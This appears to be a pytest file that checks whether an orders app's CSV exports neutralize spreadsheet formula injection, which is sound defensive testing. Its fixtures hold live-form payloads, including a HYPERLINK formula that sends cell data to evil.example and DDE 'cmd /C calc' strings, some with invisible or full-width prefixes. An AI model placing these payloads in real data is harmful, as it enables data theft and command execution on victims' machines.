"""CSV exports hold no formula: a customer name a spreadsheet would run is written with a leading '.

Both exports (GET /orders/export.csv and `flask export`) go through the same writer; `--raw`
writes names as stored. The resumed export is byte-identical to an uninterrupted one with these
names in it (tests/test_export_cli.py seeds them too).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
from collections.abc import Iterator
from decimal import Decimal

import pytest
from flask import Flask
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import delete
from sqlalchemy.orm import Session
from werkzeug.datastructures import MultiDict

from orders.data.db import make_engine, migrate
from orders.data.models import Order
from orders.exports.csv_format import CSV_COLUMNS, FORMULA_TRIGGERS, LEADING_BLANKS, csv_line, neutralize
from orders.exports.stream import export_chunks
from orders.finding.request import ListRequest
from pagination import CursorCodec, iterate

from .databases import SERVERS, migrated_database
from .fixtures import make_app
from .helpers import BASE, add_orders
from .hunt import examples

# What the attacker posted, and every character OWASP lists as a formula trigger.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    '+cmd|" /C calc"!A0',
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\tTabbed",
    "\rReturn",
    " =spaced",  # an import that trims cells (or a person) reads "=spaced"
    "   @SUM(1)",
    # Issue 39: after Unicode spaces and format characters, and full-width or small signs.
    "\u200b=1+1",
    "\u3000=1+1",
    "\u00a0\ufeff@SUM(1)",
    "＝1+1",
    "\u2060＋1",
    "﹦1",
]
HARMLESS = ["Ana", "José = Maria", "O'Brien", "1+1", "Ωmega", "'quoted", " spaced", "A =b"]
# A trigger after a separator: a spreadsheet that splits on ";" (most European locales) or ","
# starts a cell there. Each is written with ' after the separator (and quoted).
SEPARATED = {
    "a;=2+5;b": "a;'=2+5;b",
    "x,=1+1": "x,'=1+1",
    "=a;@SUM(1)": "'=a;'@SUM(1)",
    "b,-3;+4": "b,'-3;'+4",
    "c;\tTab": "c;'\tTab",
    "plain; words, here": "plain; words, here",
    # The issue's: after "; " the cell is " =HYPERLINK(...)", a formula once trimmed.
    'Ana; =HYPERLINK("http://evil.example")': 'Ana;\' =HYPERLINK("http://evil.example")',
    "b,  +1": "b,'  +1",
    "c; d": "c; d",
    "d;\u200b=1": "d;'\u200b=1",
    "e,\u00a0＝1": "e,'\u00a0＝1",
}


def starts_formula(cell: str) -> bool:
    """What a spreadsheet runs: a trigger after nothing visible (a reader may trim any of it)."""
    return cell.lstrip(LEADING_BLANKS).startswith(FORMULA_TRIGGERS)


def test_the_blanks_are_every_space_and_format_character() -> None:
    """LEADING_BLANKS is a table of ranges (reading the categories at import was slow): every
    Zs and Cf character is in it."""
    import unicodedata

    missing = [
        f"U+{cp:04X}"
        for cp in range(0x110000)
        if unicodedata.category(chr(cp)) in ("Zs", "Cf") and chr(cp) not in LEADING_BLANKS
    ]
    assert missing == []


@pytest.fixture
def app(tmp_path) -> Flask:
    url = f"sqlite:///{tmp_path / 'csv.db'}"
    engine = make_engine(url)
    migrate(engine)
    # Written straight to the table: data from before the API refused tab and CR must be safe too.
    rows = [
        (BASE - dt.timedelta(minutes=i), name, Decimal(i) + Decimal("0.25"), "paid")
        for i, name in enumerate(DANGEROUS + HARMLESS + list(SEPARATED))
    ]
    add_orders(engine, rows)
    engine.dispose()
    app = make_app(url)
    yield app
    app.extensions["engine"].dispose()


def python_written(
    session: Session, listing: ListRequest, codec: CursorCodec, batch: int, *, raw: bool
) -> str:
    """The reference: the same rows read by the library's iterate() in batches and written by
    csv_line() in Python, line by line."""
    columns = [Order.__table__.c[name] for name in CSV_COLUMNS]
    stmt = listing.statement().with_only_columns(*columns, maintain_column_froms=True)
    batches = iterate(session, stmt, listing.sort, batch_size=batch, codec=codec, filters=listing.filters)
    return "".join(csv_line(row, raw=raw) for b in batches for row in b.items)


def names(csv_text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(csv_text, newline="")))
    assert rows[0] == ["id", "customer", "amount", "status", "created_at"]
    return [row[1] for row in rows[1:]]


def expected(raw: bool = False) -> list[str]:
    everything = DANGEROUS + HARMLESS + list(SEPARATED)  # newest first is insertion order here
    if raw:
        return everything
    return ["'" + n if n in DANGEROUS else SEPARATED.get(n, n) for n in everything]


def test_neutralize_follows_owasp() -> None:
    for name in DANGEROUS:
        assert neutralize(name) == "'" + name
    for name in HARMLESS:
        assert neutralize(name) == name
    for name, safe in SEPARATED.items():
        assert neutralize(name) == safe


@pytest.mark.parametrize("trim", [False, True])
@pytest.mark.parametrize("separator", [",", ";"])
def test_no_cell_starts_a_formula_whatever_the_separator(app: Flask, separator: str, trim: bool) -> None:
    """The file opened as a spreadsheet would, splitting on "," or on ";", keeping or trimming
    the spaces around a cell: no cell starts with a trigger."""
    data = app.test_client().get("/orders/export.csv").get_data()
    cells = [cell for row in reread(data, separator, trim=trim) for cell in row]
    formulas = [cell for cell in cells if starts_formula(cell)]
    assert not formulas, formulas
    # The raw file would have had formulas under both separators: the test can tell.
    raw = app.test_cli_runner().invoke(args=["export", "--raw"]).output.encode()
    raw_cells = [cell for row in reread(raw, separator, trim=trim) for cell in row]
    assert any(starts_formula(cell) for cell in raw_cells)


def test_web_export_neutralizes_formula_cells(app: Flask) -> None:
    response = app.test_client().get("/orders/export.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert names(text) == expected()
    # Only text cells: ids, amounts, statuses and timestamps are written as they are.
    for row in list(csv.reader(io.StringIO(text, newline="")))[1:]:
        assert row[0].isdigit() and Decimal(row[2]) >= 0 and row[3] == "paid" and row[4].endswith("Z")


def test_cli_export_neutralizes_and_raw_writes_names_as_stored(app: Flask, tmp_path) -> None:
    runner = app.test_cli_runner()
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert runner.invoke(args=["export", "--output", str(safe)]).exit_code == 0
    assert runner.invoke(args=["export", "--output", str(raw), "--raw"]).exit_code == 0
    assert names(safe.read_bytes().decode()) == expected()
    assert names(raw.read_bytes().decode()) == expected(raw=True)
    # The command and the download write the same bytes.
    assert safe.read_bytes() == app.test_client().get("/orders/export.csv").get_data()


def test_resumed_export_with_formula_cells_is_byte_identical(app: Flask, tmp_path) -> None:
    """Resume after every batch boundary (batches of 3): the pieces concatenate to the whole."""
    runner = app.test_cli_runner()
    whole = tmp_path / "whole.csv"
    assert runner.invoke(args=["export", "--output", str(whole)]).exit_code == 0
    client = app.test_client()
    first = client.get("/api/orders", query_string={"limit": 3}).json
    part = tmp_path / "part.csv"
    # The first three rows by the API, then the rest resumed after them, as a second command.
    head = runner.invoke(args=["export", "--output", str(part), "--batch-size", "3"])
    assert head.exit_code == 0
    lines = part.read_text(encoding="utf-8").splitlines(keepends=True)
    part.write_text("".join(lines[:4]), encoding="utf-8", newline="")  # header + three rows
    resumed = runner.invoke(args=["export", "--output", str(part), "--after", first["next_cursor"]])
    assert resumed.exit_code == 0, resumed.output
    assert part.read_bytes() == whole.read_bytes()


# --- Generated names: the COPY export and the Python writer agree, and no reader finds a formula -

# Names made of the pieces that matter (separators, quotes, line breaks, every trigger) next to
# each other, mixed with any other text a column holds (PostgreSQL text cannot hold NUL).
PIECES = [
    ",",
    ";",
    "\r",
    "\n",
    '"',
    "'",
    " ",
    "a",
    "\u200b",
    "\u3000",
    "\u00a0",
    "\ufeff",
    *FORMULA_TRIGGERS,
]  # full-width and small signs are triggers; invisible characters before them
NAME_TEXT = st.lists(
    st.sampled_from(PIECES)
    | st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=3),
    max_size=12,
).map("".join)


@pytest.fixture(scope="module", params=SERVERS)
def server_app(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    with migrated_database(request.param, tmp_path_factory.mktemp("csvgen"), "csvgen") as url:
        app = make_app(url)
        yield app
        app.extensions["engine"].dispose()


def reread(data: bytes, separator: str, *, trim: bool = False) -> list[list[str]]:
    """The cells as a reader splitting on `separator` finds them; `trim`: as one that skips the
    spaces before a cell (and then reads its quotes), then trims the cell."""
    rows = csv.reader(io.StringIO(data.decode(), newline=""), delimiter=separator, skipinitialspace=trim)
    return [[cell.strip(" ") if trim else cell for cell in row] for row in rows]


@settings(
    max_examples=examples(150), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@example(customers=['a;"=1', "b\n@x", "=c,d"], raw=False, batch=2)
@example(customers=["Ana; =HYPERLINK(1)", ' "=x', 'a, " -1', "\r =y"], raw=False, batch=3)
@example(customers=["\u200b=1", "＝1", "a;\u3000＠x", "\U000e0020-1", "Úrsula", "\u00a0"], raw=False, batch=2)
# A character below the space after a blank: MariaDB's utf8mb4_bin (PAD SPACE) let these through.
@example(customers=["\u00a0\t=1", "\u00a0 \r@x", "\u3000\t", "\u00a0"], raw=False, batch=2)
@given(customers=st.lists(NAME_TEXT, min_size=1, max_size=12), raw=st.booleans(), batch=st.integers(1, 5))
def test_server_formatted_export_writes_what_the_python_writer_writes(
    server_app: Flask, customers, raw, batch
) -> None:
    """On PostgreSQL the export is COPY, on MariaDB a SELECT of lines, both with the formula
    neutralizing in SQL; SQLite formats rows in Python. All must give the same bytes for any
    name, and read back (with "," as written, or ";" as a European spreadsheet splits) no cell
    may start a formula."""
    engine = server_app.extensions["engine"]
    with engine.begin() as conn:
        conn.execute(delete(Order.__table__))
    add_orders(
        engine,
        [
            (BASE - dt.timedelta(seconds=i), c, Decimal("9999999999.99"), "paid")
            for i, c in enumerate(customers)
        ],
    )
    listing_args = MultiDict({"sort": "newest"})
    codec = server_app.extensions["cursor_codec"]
    with server_app.app_context(), Session(engine) as session:
        listing = ListRequest.from_args(listing_args, codec=codec)
        served = b"".join(c.data for c in export_chunks(session, listing, batch_size=batch, raw=raw))
        written = python_written(session, listing, codec, batch, raw=raw)
    assert served == written.encode()
    assert [row[1] for row in reread(served, ",")] == [c if raw else neutralize(c) for c in customers]
    if not raw:
        for separator, trim in itertools.product(",;", (False, True)):
            cells = [cell for row in reread(served, separator, trim=trim) for cell in row]
            formulas = [cell for cell in cells if starts_formula(cell)]
            assert not formulas, (separator, trim)
